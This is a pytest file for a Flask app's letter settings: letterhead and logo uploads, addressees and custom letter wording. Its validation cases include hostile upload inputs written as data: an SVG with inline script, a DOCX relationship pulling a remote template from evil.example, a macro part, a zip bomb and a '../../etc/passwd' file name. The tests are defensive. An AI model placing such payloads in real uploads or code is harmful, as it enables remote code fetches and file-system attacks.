"""Settings of letters: one's details, the letterhead and its uploads, addressees, and wording of one's own."""

from __future__ import annotations

import io
import os
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import docx
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from werkzeug.datastructures import FileStorage
from werkzeug.test import TestResponse, encode_multipart

from foiflow.drafting.letter_files import LETTERS
from foiflow.models import OwnAddressee, OwnLetter, db, transaction
from foiflow.models.app_database import settings_in_use
from foiflow.services.letters import settings as letter_settings
from tests.web.casework import log, standing_on
from tests.web.letters.test_letters import REFUSED, review
from tests.web.visiting import form_on, main_of, read, send, typed_into, words

SETTINGS = "/settings/letters"


@pytest.fixture(autouse=True)
def today() -> Iterator[None]:
    with standing_on("2026-03-03"):
        yield


@pytest.fixture
def folder(app: Flask) -> Path:
    with app.app_context():
        return settings_in_use().data


def png(wide: int = 8, high: int = 8) -> bytes:
    """A white picture."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    lines = b"".join(b"\0" + b"\xff" * wide for _ in range(high))
    head = struct.pack(">IIBBBBB", wide, high, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(lines)) + chunk(b"IEND", b"")


def a_word_document(**parts: str) -> bytes:
    """A Word document with the newsroom's name in its header; `parts` are put into the package besides."""
    document, file = docx.Document(), io.BytesIO()
    document.sections[0].header.paragraphs[0].text = "THE ANYTOWN OBSERVER"
    document.save(file)
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as package:
        for name, text in parts.items():
            package.writestr(name, text)
    return file.getvalue()


def files_kept(folder: Path) -> list[Path]:
    """The files of the letterhead on the disk."""
    return [path for path in (folder / "letterhead").rglob("*") if path.is_file()]


def save_wording(client: FlaskClient, name: str, text: str) -> TestResponse:
    """Choose a letter's file and save it."""
    form = form_on(read(client.get(SETTINGS)), f"{SETTINGS}/wording")
    chosen = {**typed_into(form), "file": FileStorage(io.BytesIO(text.encode()), name)}
    boundary, body = encode_multipart(chosen)
    kind = f"multipart/form-data; boundary={boundary}"
    return client.post(f"{SETTINGS}/wording", data=body, content_type=kind, follow_redirects=True)


def upload(client: FlaskClient, **files: tuple[bytes, str]) -> TestResponse:
    """Choose files for the letterhead and save it."""
    form = form_on(read(client.get(SETTINGS)), f"{SETTINGS}/letterhead")
    typed = {name: value for name, value in typed_into(form).items() if name not in ("logo", "base")}
    chosen = {name: FileStorage(io.BytesIO(data), file_name) for name, (data, file_name) in files.items()}
    boundary, body = encode_multipart({**typed, **chosen})
    kind = f"multipart/form-data; boundary={boundary}"
    return client.post(f"{SETTINGS}/letterhead", data=body, content_type=kind)


def test_the_masthead_leads_to_the_settings(client: FlaskClient) -> None:
    link = read(client.get("/")).select_one(f'header a[href="{SETTINGS}"]')
    assert words(link) == "Settings"


def test_ones_own_address_stands_on_the_next_letter(app: Flask, client: FlaskClient) -> None:
    case_id = log(app, "2026-02-02", REFUSED)
    typed = {"signing_address": "12 Some Street\nAnytown", "phone": "020 7946 0000"}
    saved = send(client, SETTINGS, typed, action=f"{SETTINGS}/details", follow=True)
    assert "Your details are saved." in main_of(saved)
    assert "12 Some Street" in words(read(client.get(review(case_id))).select_one("article.letter"))
    refused = send(client, SETTINGS, {"phone": "0" * 300}, action=f"{SETTINGS}/details")
    assert refused.status_code == 422
    assert "at most 200 characters" in main_of(refused)


def test_a_letterhead_of_name_address_typeface_and_logo_stands_above_every_letter(
    app: Flask, client: FlaskClient, folder: Path
) -> None:
    case_id = log(app, "2026-02-02", REFUSED)
    typed = {
        "name": "The Anytown “Observer”",
        "address": "1 High Street\nAnytown",
        "typeface": "Georgia",
        "logo": "-",
        "base": "-",
    }
    assert send(client, SETTINGS, typed, action=f"{SETTINGS}/letterhead").status_code == 303
    assert upload(client, logo=(png(), "logo.exe")).status_code == 303
    document = docx.Document(io.BytesIO(send(client, review(case_id), {"act": "word"}).get_data()))
    with zipfile.ZipFile(io.BytesIO(send(client, review(case_id), {"act": "word"}).get_data())) as package:
        everything = b"".join(package.read(name) for name in package.namelist())
    assert "The Anytown “Observer”".encode() in everything
    assert b"Georgia" in everything
    assert png() in everything
    assert document.paragraphs
    assert "There is a logo" in main_of(client.get(SETTINGS))


@pytest.mark.skipif(os.name != "posix", reason="Windows keeps files private in another way")
def test_what_is_uploaded_is_its_owners_alone_to_read(client: FlaskClient, folder: Path) -> None:
    upload(client, logo=(png(), "logo.png"))
    (logo,) = files_kept(folder)
    assert logo.read_bytes() == png()
    assert stat.S_IMODE(logo.stat().st_mode) == 0o600


def test_a_logo_that_another_takes_the_place_of_is_gone_from_the_disk(client: FlaskClient, folder: Path) -> None:
    for picture in (png(), png(9, 9)):
        upload(client, logo=(picture, "logo.png"))
    assert [path.read_bytes() for path in files_kept(folder)] == [png(9, 9)]
    assert send(client, SETTINGS, {"without_logo": "y", "logo": "-", "base": "-"},
                action=f"{SETTINGS}/letterhead").status_code == 303  # fmt: skip
    assert files_kept(folder) == []


def test_a_word_document_of_ones_own_is_what_letters_are_written_in(app: Flask, client: FlaskClient) -> None:
    case_id = log(app, "2026-02-02", REFUSED)
    assert upload(client, base=(a_word_document(), "letterhead.docx")).status_code == 303
    page = client.get(SETTINGS)
    assert "Letters are written in your own Word document" in main_of(page)
    made = docx.Document(io.BytesIO(send(client, review(case_id), {"act": "word"}).get_data()))
    assert made.sections[0].header.paragraphs[0].text == "THE ANYTOWN OBSERVER"
    assert "pothole register" in "\n".join(paragraph.text for paragraph in made.paragraphs)
    taken_out = {"without_base": "y", "base": "-"}
    assert send(client, SETTINGS, taken_out, action=f"{SETTINGS}/letterhead").status_code == 303
    made = docx.Document(io.BytesIO(send(client, review(case_id), {"act": "word"}).get_data()))
    assert "THE ANYTOWN OBSERVER" not in [line.text for line in made.sections[0].header.paragraphs]


FETCHES = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("field", "data", "sentence"),
    [
        ("logo", b"GIF89a" + b"\0" * 40, "must be a PNG or JPEG picture"),
        ("logo", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "must be a PNG or JPEG"),
        ("logo", png()[:20], "must be a PNG or JPEG picture"),
        ("logo", b"\xff\xd8\xff\xe0broken", "must be a PNG or JPEG picture"),
        ("logo", png() + b"\0" * letter_settings.LARGEST_LOGO, "larger than 1 MB"),
        ("base", b"Dear Sir", "not a Word document"),
        ("base", png(), "not a Word document"),
        ("base", b"\0" * (letter_settings.LARGEST_BASE + 1), "larger than 2 MB"),
        ("base", a_word_document(**{"word/vbaProject.bin": "x"}), "holds macros"),
        ("base", a_word_document(**{"word/bomb.xml": "0" * 40_000_000}), "unpacks to far more"),
        ("base", a_word_document(**{"word/_rels/settings.xml.rels": FETCHES}), "fetches https://evil.example/x.dotm"),
    ],
)  # fmt: skip
def test_a_file_that_is_not_what_it_should_be_is_refused_and_nothing_changes(
    client: FlaskClient, folder: Path, field: str, data: bytes, sentence: str
) -> None:
    assert upload(client, logo=(png(), "logo.png")).status_code == 303
    before = {path.name: path.read_bytes() for path in files_kept(folder)}
    # The first says that the logo was saved.
    _, shown = (main_of(client.get(SETTINGS)) for _ in range(2))
    refused = upload(client, **{field: (data, "file.docx" if field == "base" else "file.png")})
    assert refused.status_code == 422
    assert sentence in words(read(refused).find(id=f"{field}-error"))
    assert {path.name: path.read_bytes() for path in files_kept(folder)} == before
    assert main_of(client.get(SETTINGS)) == shown


def test_a_package_that_is_no_word_document_is_refused(client: FlaskClient, folder: Path) -> None:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as package:
        package.writestr("hello.txt", "hello")
    refused = upload(client, base=(file.getvalue(), "letterhead.docx"))
    assert refused.status_code == 422
    assert "No letter can be written in that Word document" in main_of(refused)
    assert files_kept(folder) == []


def test_an_addressee_is_changed_and_what_was_not_is_still_ours(app: Flask, client: FlaskClient) -> None:
    typed = {
        "information_commissioner_name": "Information Commission",
        "information_commissioner_address": "1 New “Street”\nManchester",
        "information_commissioner_checked_on": "2 March 2026",
    }
    saved = send(client, SETTINGS, typed, action=f"{SETTINGS}/addressees", follow=True)
    assert "The addressees are saved." in main_of(saved)
    with app.app_context():
        (row,) = db.session.scalars(select(OwnAddressee))
        assert (row.who, row.name, row.email) == ("information_commissioner", "Information Commission", None)
    shown = typed_into(form_on(read(saved), f"{SETTINGS}/addressees"))
    assert {name: shown[name] for name in typed} == typed
    refused = send(client, SETTINGS, {"tribunal_name": ""}, action=f"{SETTINGS}/addressees")
    assert refused.status_code == 422
    assert words(read(refused).find(id="tribunal_name-error")).endswith("letters address it by that.")
    refused = send(
        client, SETTINGS, {"tribunal_email": "a@example.org, b@example.org"}, action=f"{SETTINGS}/addressees"
    )
    assert refused.status_code == 422
    assert "Give one e-mail address, like office@example.org, or none." in main_of(refused)


OURS = (LETTERS / "internal_review.md").read_text(encoding="utf-8")


def test_wording_of_ones_own_takes_the_place_of_ours_until_it_is_taken_out(app: Flask, client: FlaskClient) -> None:
    case_id = log(app, "2026-02-02", REFUSED)
    own = OURS.replace("## What I asked for", "## What I want")
    saved = main_of(save_wording(client, "internal_review.md", own))
    assert "The wording is saved" in saved
    assert "“Ask for an internal review” takes the place of ours." in saved
    assert "What I want" in words(read(client.get(review(case_id))).select_one("article.letter"))
    with client.get(f"{SETTINGS}/wording/internal_review.md") as given:
        assert given.get_data(as_text=True) == own
        assert given.headers["Content-Disposition"] == "attachment; filename=internal_review.md"
    taken = send(client, SETTINGS, {}, action=f"{SETTINGS}/wording/out", follow=True)
    assert "It is taken out." in main_of(taken)
    assert "What I asked for" in words(read(client.get(review(case_id))).select_one("article.letter"))
    assert client.get(f"{SETTINGS}/wording/internal_review.md").status_code == 404


@pytest.mark.parametrize(
    ("name", "text", "says"),
    [
        ("chase_response.md", OURS + "\n{{ no_such_fact }}\n", "letters/chase_response.md, line"),
        ("chase_response.md", "Dear Sir", "it must begin with a line +++"),
        ("Chase response.docx", OURS, "is called by the letter, such as internal_review.md"),
        ("../../etc/passwd", OURS, "is called by the letter"),
        ("chase_response.md", "x" * 300_000, "larger than 200 KB"),
        ("", "", "Choose the file of a letter."),
    ],
)
def test_a_wording_that_no_letter_can_be_made_from_is_refused_by_file_and_line(
    client: FlaskClient, name: str, text: str, says: str
) -> None:
    refused = save_wording(client, name, text)
    assert refused.status_code == 422
    assert says in words(read(refused).find(id="file-error"))
    assert "There is none." in main_of(client.get(SETTINGS))


def test_a_wording_that_has_become_faulty_is_named_by_file_and_line(app: Flask, client: FlaskClient) -> None:
    with app.app_context(), transaction() as session:
        session.add(OwnLetter(letter="chase_response", text=OURS + "\n{{ no_such_fact }}\n"))
    fault = main_of(client.get(SETTINGS))
    assert "letters/chase_response.md, line" in fault
    assert "no_such_fact" in fault


def test_a_letterhead_whose_file_is_gone_is_told_and_can_be_chosen_anew(client: FlaskClient, folder: Path) -> None:
    upload(client, logo=(png(), "logo.png"))
    (logo,) = files_kept(folder)
    logo.unlink()
    assert "The letterhead’s logo is no longer in foiflow’s data folder as it was kept" in main_of(client.get(SETTINGS))
    upload(client, logo=(png(), "logo.png"))
    assert "no longer" not in main_of(client.get(SETTINGS))


def test_a_stranger_sees_no_settings(stranger: FlaskClient) -> None:
    assert stranger.get(SETTINGS).status_code == 303
